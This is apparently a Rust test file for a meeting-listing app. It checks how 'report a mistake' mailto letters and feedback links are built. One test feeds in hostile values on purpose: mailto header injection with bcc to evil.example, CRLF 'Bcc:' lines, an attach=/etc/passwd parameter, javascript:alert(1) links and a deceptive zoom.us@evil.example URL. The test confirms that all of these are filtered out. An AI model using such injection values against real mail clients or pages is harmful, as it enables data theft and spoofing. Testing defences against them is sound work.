use super::*;
use crate::leaving::may_be_opened;
use crate::leaving::tests::{full, stored};
use circle_domain::Contact;

fn source(location: &str) -> Source {
    Source::new("Harbor list", location)
}

fn reported(public: &str, meeting: Meeting, source: Option<&Source>) -> Report {
    let mut stored = stored(meeting);
    stored.public = public.to_owned();
    report(&stored, source, &Words::new("en")).unwrap()
}

fn told(report: &Report) -> Vec<String> {
    let way = |way: &ReportWay| match &way.by {
        ReportBy::Mail { mailboxes, .. } => format!("{} {}", way.to.as_str(), mailboxes.join(",")),
        ReportBy::Page { address, .. } => format!("{} {address}", way.to.as_str()),
    };
    report.ways.iter().map(way).collect()
}

/// What a mail program makes of the address.
fn letter(address: &str) -> (String, String, String) {
    let url = Url::parse(address).unwrap();
    let part = |name: &str| {
        let query = url.query().unwrap();
        let found = query
            .split('&')
            .find_map(|field| field.strip_prefix(&format!("{name}=")));
        percent_encoding::percent_decode_str(found.unwrap())
            .decode_utf8()
            .unwrap()
            .into_owned()
    };
    (url.path().to_owned(), part("subject"), part("body"))
}

#[test]
fn whom_the_publisher_names_is_asked_first() {
    let public = r#"{"feedback_emails":["fix@harbor.example.org","fix@harbor.example.org","web@harbor.example.org"],
        "feedback_url":"https://harbor.example.org/fix?slug=quiet","entity":"Harbor Intergroup","entity_email":"office@harbor.example.org",
        "entity_website_url":"https://harbor.example.org/"}"#;
    let list = source("https://harbor.example.org/wp-admin/admin-ajax.php?action=meetings");
    let report = reported(public, full(), Some(&list));
    assert_eq!(
        told(&report),
        [
            "feedback fix@harbor.example.org,web@harbor.example.org",
            "feedback https://harbor.example.org/fix?slug=quiet",
            "service_body office@harbor.example.org",
            "service_body https://harbor.example.org/",
            "service_body https://harbor.example.org/contact",
        ],
        "each once, the one that is meant for it first; the site of the list is the office's"
    );
    let ReportBy::Mail { address, .. } = &report.ways[0].by else {
        panic!("a letter first");
    };
    assert!(may_be_opened(address), "the system may open it");
    let (to, subject, body) = letter(address);
    assert_eq!(to, "fix@harbor.example.org,web@harbor.example.org", "both");
    assert_eq!(
        subject, "A mistake in your listing: Quiet Harbor",
        "RFC 6068: no plus for a blank"
    );
    assert_eq!(
        body,
        "Hello, something in this listing seems to be wrong.\r\n\r\n\
         Listing: Quiet Harbor\r\n\
         Its id in your list: quiet-harbor-7\r\n\
         Page: https://harbor.example.org/meetings/quiet\r\n\
         When: Every Tuesday, 19:30–20:30 (Los Angeles)\r\n\
         Where: Harbor House, 12 Dock St, Greenport, WA, 98000\r\n\
         Joining at: us02web.zoom.us\r\n\
         Phone: +1 (555) 0100-100,,123#\r\n\r\n\
         What is wrong:\r\n",
        "the listing, what it says, and nothing of the person; no pass code of a link"
    );
}

#[test]
fn a_list_may_name_its_mailboxes_in_one_text() {
    let report = reported(
        r#"{"feedback_emails":"a@harbor.example, b@harbor.example"}"#,
        Meeting::empty(),
        None,
    );
    assert_eq!(
        told(&report),
        ["feedback a@harbor.example,b@harbor.example"],
        "a comma list"
    );
}

#[test]
fn where_nobody_is_named_that_is_said() {
    let bare = Meeting {
        contact: Contact::default(),
        ..full()
    };
    let report = reported("{}", bare.clone(), None);
    assert!(report.ways.is_empty(), "nobody is made up");
    assert!(
        Words::new("en").has("report-nobody"),
        "and there is a sentence for it"
    );
    let report = reported("{}", bare.clone(), Some(&source("/home/me/list.json")));
    assert!(
        report.ways.is_empty(),
        "a file of this computer has no site"
    );
    let report = reported(
        "{}",
        bare.clone(),
        Some(&source("https://lists.example.net/feed.json?key=1")),
    );
    assert_eq!(
        told(&report),
        ["site https://lists.example.net/"],
        "the site that the list comes from"
    );
    let mut carried = stored(bare);
    carried.imported_from = Some("https://www.one.example/list.json".to_owned());
    let report = super::report(
        &carried,
        Some(&source("https://lists.example.net/feed.json")),
        &Words::new("en"),
    )
    .unwrap();
    assert_eq!(
        told(&report),
        [
            "site https://www.one.example/",
            "site https://lists.example.net/"
        ],
        "who wrote it before who carries it"
    );
}

#[test]
fn a_hostile_listing_smuggles_nothing_into_a_letter() {
    let mut hostile = full();
    hostile.name = Some(
        "Quiet&bcc=x@evil.example\r\nBcc: y@evil.example?attach=/etc/passwd 100%25".to_owned(),
    );
    hostile.page_url = Some("javascript:alert(1)".to_owned());
    let public = r#"{"feedback_emails":["ok@harbor.example","a@b.example?bcc=c@d.example","x\r\nBcc: y@z.example"],
        "feedback_url":"javascript:alert(1)","entity_url":"https://zoom.us@evil.example/"}"#;
    let report = reported(public, hostile, None);
    assert_eq!(
        told(&report),
        [
            "feedback ok@harbor.example",
            "service_body office@harbor.example.org",
            "service_body https://harbor.example.org/contact"
        ],
        "what is no mailbox and no page is left out"
    );
    let ReportBy::Mail { address, .. } = &report.ways[0].by else {
        panic!("a letter");
    };
    assert!(may_be_opened(address), "only subject and text: {address}");
    let (_, subject, body) = letter(address);
    assert!(!subject.contains('\n'), "a subject is one line");
    assert!(!body.contains("javascript"), "no such link");
    let mut endless = full();
    endless.name = Some("ü".repeat(500));
    let report = reported(public, endless, None);
    let ReportBy::Mail { address, .. } = &report.ways[0].by else {
        panic!("a letter");
    };
    assert!(
        address.len() <= 4_000 && may_be_opened(address),
        "{} bytes are understood",
        address.len()
    );
}

#[test]
fn nothing_is_reported_of_an_invented_meeting() {
    let mut sample = stored(full());
    sample.sample = true;
    assert_eq!(
        report(&sample, None, &Words::new("en")),
        Err(Refused::Sample),
        "nobody publishes it"
    );
}
